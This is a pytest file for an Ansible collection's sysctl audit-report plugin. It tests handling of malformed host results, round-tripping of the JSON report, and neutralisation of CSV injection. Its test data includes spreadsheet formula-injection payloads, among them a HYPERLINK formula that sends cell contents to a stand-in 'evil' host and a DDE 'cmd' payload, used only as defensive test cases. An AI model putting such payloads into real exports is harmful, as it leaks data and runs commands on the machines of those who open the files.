# -*- coding: utf-8 -*-
# Copyright (c) 2026 kerneltune.sysctl contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
"""What hosts send is untrusted: a malformed result fails its host only; CSV cells never start a formula."""

from __future__ import annotations

import csv
import io
import json

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from ansible_collections.kerneltune.sysctl.plugins.action.audit_report import WRITERS, _classify
from ansible_collections.kerneltune.sysctl.plugins.plugin_utils._report import (
    CSV_FIELDS, MalformedResult, build_report, csv_rows, host_result, neutralise, read_json, write_csv, write_json,
)

GOOD = {'net.core.somaxconn': {'status': 'drift', 'live': '4096'}}

# (id, result, part of the reason)
MALFORMED = [
    ('result-list', ['sysctl'], 'the audit result is a list, not a mapping'),
    ('sysctl-list', {'sysctl': [GOOD]}, 'sysctl is a list, not a mapping of keys'),
    ('sysctl-string', {'sysctl': 'drift'}, 'sysctl is a str, not a mapping of keys'),
    ('entry-string', {'sysctl': {'net.core.somaxconn': 'drift'}}, "sysctl entry 'net.core.somaxconn' is a str"),
    ('entry-without-status', {'sysctl': {'k': {'live': '1'}}}, "sysctl entry 'k' has no status string (None)"),
    ('status-unhashable', {'sysctl': {'k': {'status': ['drift']}}}, "sysctl entry 'k' has no status string (['drift'])"),
    ('status-mapping', {'sysctl': {'k': {'status': {'a': 1}}}}, "sysctl entry 'k' has no status string"),
    ('key-not-a-string', {'sysctl': {5: {'status': 'ok'}}}, 'sysctl has a key that is not a string: 5'),
    ('pressure-list', {'sysctl': GOOD, 'pressure': [1, 2]}, 'pressure is a list, not a mapping'),
    ('verdict-list', {'sysctl': GOOD, 'pressure': {'verdict': ['overflowed']}}, 'pressure.verdict is not a mapping'),
    ('verdict-value-list', {'sysctl': GOOD, 'pressure': {'verdict': {'k': ['x']}}}, 'pressure.verdict is not a mapping'),
    ('summary-string', {'sysctl': GOOD, 'summary': 'all fine'}, 'summary is a str, not a mapping'),
]


@pytest.mark.parametrize('raw, reason', [c[1:] for c in MALFORMED], ids=[c[0] for c in MALFORMED])
def test_a_malformed_result_fails_its_host_only(raw, reason):
    with pytest.raises(MalformedResult, match=None) as exc:
        host_result(raw)
    assert reason in str(exc.value)
    hostvars = {'bad': {'kerneltune_audit': raw}, 'good': {'kerneltune_audit': {'sysctl': GOOD}}}
    results, unreachable, failed = _classify(['bad', 'good'], hostvars, 'kerneltune_audit')
    assert list(results) == ['good'] and unreachable == {}
    assert failed == {'bad': 'malformed audit result: ' + str(exc.value)} if isinstance(raw, dict) else 'bad' in failed


def test_a_long_key_is_named_shortened():
    with pytest.raises(MalformedResult) as exc:
        host_result({'sysctl': {'k' * 500: []}})
    assert len(str(exc.value)) < 160


def test_what_the_report_keeps():
    raw = dict(sysctl=GOOD, summary={'drift': 1}, boot_applier='procps', pressure={'verdict': {}}, changed=False,
               invocation={'module_args': {}}, extra='x')
    assert host_result(raw) == dict(sysctl=GOOD, summary={'drift': 1}, boot_applier='procps',
                                    pressure={'verdict': {}})


# (cell, shown) -- OWASP CSV injection: formula starts get an apostrophe, numbers and plain text do not.
CELLS = [
    ('=HYPERLINK("http://evil","x")', '\'=HYPERLINK("http://evil","x")'),
    ("=1+cmd|' /C calc'!A0", "'=1+cmd|' /C calc'!A0"),
    ('@SUM(1)', "'@SUM(1)"),
    ('+1+1', "'+1+1"),
    ('-2+3+cmd|x', "'-2+3+cmd|x"),
    ('\t=1', "'\t=1"),
    ('\r=1', "'\r=1"),
    ('  =1+1', "'  =1+1"),
    ('\uff1d1+1', "'\uff1d1+1"),
    ('-1', '-1'),
    ('-0.5', '-0.5'),
    ('4096\t87380\t6291456', '4096\t87380\t6291456'),
    ('/etc/sysctl.conf:12', '/etc/sysctl.conf:12'),
    ('net.core.somaxconn', 'net.core.somaxconn'),
    ('', ''),
]


@pytest.mark.parametrize('cell, shown', CELLS)
def test_neutralise(cell, shown):
    assert neutralise(cell) == shown


def test_every_host_field_reaches_the_csv_neutralised(tmp_path):
    evil = '=HYPERLINK("http://evil/?"&A1,"click")'
    entry = dict(status='drift', live=evil, boot=evil, boot_source=evil, expected=evil, baseline=evil,
                 at_baseline=None, error=evil, reload=evil, reload_source=evil, reason=evil)
    results = {'web1': {'sysctl': {'@SUM(1)': entry}, 'pressure': {'verdict': {'@SUM(1)': '+overflow'}}}}
    report = build_report(results, {'lb1': "=1+cmd|' /C calc'!A0"}, {'db1': '-2+cmd|x'}, None, None, 'now')
    with open(str(tmp_path / 'r.csv'), 'wb') as out:
        write_csv(report, out)
    with open(str(tmp_path / 'r.csv'), newline='', encoding='utf-8') as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == list(CSV_FIELDS)
    cells = [cell for row in rows[1:] for cell in row if cell]
    assert all(not cell[0] in '=+-@\t\r' for cell in cells), cells
    assert "'@SUM(1)" in rows[1] and rows[1].count("'" + evil) == 9 and "'+overflow" in rows[1]


def _writers():
    """The audit_report action's own writers (one per format), named by format."""
    return sorted(WRITERS.items())


# Text with lone surrogates too (a host's JSON may carry "\\ud800"), integers far beyond a float's range.
TEXT = st.text(st.characters(blacklist_categories=()), max_size=20)
NUMBER = st.integers(min_value=-10 ** 400, max_value=10 ** 400) | st.integers() | st.floats()
JSON = st.recursive(st.none() | st.booleans() | NUMBER | TEXT,
                    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=10), inner, max_size=4),
                    max_leaves=20)
ENTRY = st.fixed_dictionaries({'status': st.sampled_from(['ok', 'drift', 'boot_drift', 'missing', '=1+1']) | JSON},
                              optional={f: JSON for f in ('live', 'boot', 'boot_source', 'expected', 'baseline',
                                                          'at_baseline', 'reason', 'error', 'reload')})
RESULT = JSON | st.fixed_dictionaries({'sysctl': st.dictionaries(st.text(max_size=30), ENTRY | JSON, max_size=4) | JSON},
                                      optional={'summary': JSON, 'pressure': JSON | st.fixed_dictionaries(
                                          {'verdict': st.dictionaries(st.text(max_size=10), JSON, max_size=3)},
                                          optional=dict((f, NUMBER | JSON) for f in ('tw_usage', 'time_wait',
                                                                                     'tw_buckets', 'tw_overflows'))),
                                          'boot_applier': JSON, 'unreachable': st.booleans(), 'failed': JSON,
                                          'msg': JSON})


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(hosts=st.dictionaries(st.text(min_size=1, max_size=12), RESULT, max_size=5))
@example(hosts={'huge': {'sysctl': GOOD, 'pressure': {'tw_usage': 10 ** 400, 'verdict': {'k': 'overflowed'}}},
                'nan': {'sysctl': GOOD, 'pressure': {'tw_usage': float('nan')}},
                'surrogate': {'sysctl': {'net.core.somaxconn': {'status': 'drift', 'live': '\ud800'}}}})
def test_any_host_data_gives_a_report_and_every_file(tmp_path, hosts):
    """Arbitrary JSON per host: every host is reported (audited, unreachable or failed), every writer finishes."""
    hostvars = dict((host, {'kerneltune_audit': raw}) for host, raw in hosts.items())
    results, unreachable, failed = _classify(list(hosts), hostvars, 'kerneltune_audit')
    assert sorted(list(results) + list(unreachable) + list(failed)) == sorted(hosts)
    report = build_report(results, unreachable, failed, 'high_connection', None, '2026-11-26T00:00:00Z')
    for name, writer in _writers():
        with open(str(tmp_path / name), 'wb') as out:
            writer(report, out)
    with open(str(tmp_path / 'json'), encoding='utf-8') as handle:
        assert sorted(json.load(handle)['host_status']) == sorted(results)
    with open(str(tmp_path / 'csv'), newline='', encoding='utf-8', errors='surrogateescape') as handle:
        for row in csv.reader(io.StringIO(handle.read())):
            assert len(row) == len(CSV_FIELDS)
            for cell in row:
                stripped = cell.lstrip(' ')
                assert not stripped or stripped[0] not in '=+@\t\r\n\uff1d\uff0b\uff20' or cell[0] == "'", row
    assert sum(sig['count'] for sig in report['signatures']) == len(results)
    assert list(csv_rows(report)) is not None


def test_report_json_is_written_and_read_back_host_by_host(tmp_path):
    results = {'web%d' % i: {'sysctl': {'k%d' % j: {'status': 'ok', 'live': str(i * j), 'boot': None, 'reason': 'x'}
                                        for j in range(3)}, 'summary': {'ok': 3}} for i in range(12)}
    results['we\nird"}\n},'] = {'sysctl': {'}\n': {'status': 'drift', 'live': '\n}', 'boot': '1'}}}
    report = build_report(results, {'db': 'down'}, {}, 'high_connection', None, '2026-11-26T00:00:00Z')
    report['changes'] = None
    path = tmp_path / 'r.json'
    with open(str(path), 'wb') as out:
        write_json(report, out)
    text = path.read_text(encoding='utf-8')
    assert json.loads(text) == json.loads(json.dumps(report))
    assert len(text.splitlines()) == 1 + len(results) + 1  # the head, one line per host, the tail
    with open(str(path), encoding='utf-8') as handle:
        assert read_json(handle) == json.loads(text)
    with open(str(path), encoding='utf-8') as handle:
        slim = read_json(handle, slim=True)
    assert slim['hosts']['web3']['sysctl']['k2'] == {'status': 'ok', 'live': '6'}
    assert slim['hosts']['we\nird"}\n},']['sysctl'] == {'}\n': {'status': 'drift', 'live': '\n}'}}
    assert dict(slim, hosts=None) == dict(json.loads(text), hosts=None)


@pytest.mark.parametrize('text, valid', [
    ('{"hosts": {"a": {"sysctl": {"k": {"status": "ok", "live": "1", "boot": "1"}}}}, "generated": "x"}', True),
    ('{"generated":"x","hosts":{\n"a":{"sysctl":{"k":{"status":"ok","live":"1","boot":"1"}}}', False),  # cut short
])
def test_any_other_json_is_read_whole(tmp_path, text, valid):
    path = tmp_path / 'r.json'
    path.write_text(text)
    with open(str(path)) as handle:
        if valid:
            assert read_json(handle, slim=True)['hosts'] == {'a': {'sysctl': {'k': {'status': 'ok', 'live': '1'}}}}
        else:
            with pytest.raises(ValueError):
                read_json(handle, slim=True)
